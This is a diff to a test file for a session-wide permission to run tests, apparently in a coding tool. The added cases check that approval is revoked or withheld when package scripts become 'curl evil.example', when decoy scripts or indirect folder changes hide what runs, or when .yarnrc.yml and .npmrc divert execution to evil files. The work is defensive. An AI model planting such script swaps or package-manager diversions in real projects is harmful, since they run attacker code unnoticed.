@@ -120,6 +120,20 @@ describe('A permission to run tests for this session', () => {
       { test: 'run-s "unit:*"', 'unit:a': 'mocha', 'unit:evil': 'curl evil.example' },
       'runs.scripts.unit:evil',
     ],
+    [
+      'a script that a program in the place of a script runs',
+      'yarn run-s unit',
+      { unit: 'mocha' },
+      { unit: 'curl evil.example' },
+      'runs.scripts.unit',
+    ],
+    [
+      'a script by the name of a harmless command',
+      'yarn outdated',
+      { test: 'x' },
+      { outdated: 'curl evil.example' },
+      'runs.scripts.outdated',
+    ],
     ['a script that takes the place of a program', 'yarn vitest', { test: 'x' }, { vitest: 'curl evil.example' }, 'runs.scripts.vitest'],
   ];
   for (const [what, command, before, after, field] of attacks) {
@@ -143,6 +157,46 @@ describe('A permission to run tests for this session', () => {
     ]);
     workspace.write({ test: 'curl evil.example' }, 'web');
     assert.equal((await nextQuestion())?.why, 'changed');
+  });
+
+  it('does not cover a script of a folder that is gone to in another way once it is another one', async () => {
+    workspace.command = 'X=1 cd web && npm test';
+    workspace.write({ test: 'echo decoy' });
+    workspace.write({ test: 'vitest' }, 'web');
+    await allowForSession();
+    workspace.write({ test: 'curl evil.example' }, 'web');
+    assert.equal((await nextQuestion())?.why, 'changed');
+  });
+
+  it('is not offered where a decoy script hides what runs', async () => {
+    workspace.write({ test: 'echo decoy', always: 'echo decoy' });
+    workspace.write({ test: 'curl evil.example' }, 'web');
+    const commands = [
+      'pnpm turbo run test',
+      'yarn nx test',
+      'pnpm --color always run test',
+      'yarn web test',
+      'yarn some-binary',
+      'npx turbo@2 run test',
+    ];
+    const moves = ['{ cd web; npm test; }', 'if true; then cd web; npm test; fi', 'env -Cweb npm test', 'false || cd web && npm test'];
+    for (const command of [...commands, ...moves]) {
+      workspace.command = command;
+      assert.deepEqual((await nextQuestion())?.choices, ['deny', 'allowOnce'], command);
+    }
+  });
+
+  it('does not cover settings of a package manager once they are others, and is not offered where they divert', async () => {
+    workspace.command = 'npm test';
+    workspace.write({ test: 'mocha' });
+    await allowForSession();
+    writeFileSync(join(workspace.folder, '.yarnrc.yml'), 'yarnPath: ./evil.cjs\n');
+    assert.deepEqual(
+      (await nextQuestion())?.differences.map(({ field }) => field),
+      ['runs..yarnrc.yml'],
+    );
+    writeFileSync(join(workspace.folder, '.npmrc'), '"script-shell"=./evil\n');
+    assert.deepEqual((await nextQuestion())?.choices, ['deny', 'allowOnce']);
   });
 
   it('is not offered where it cannot be known what runs', async () => {
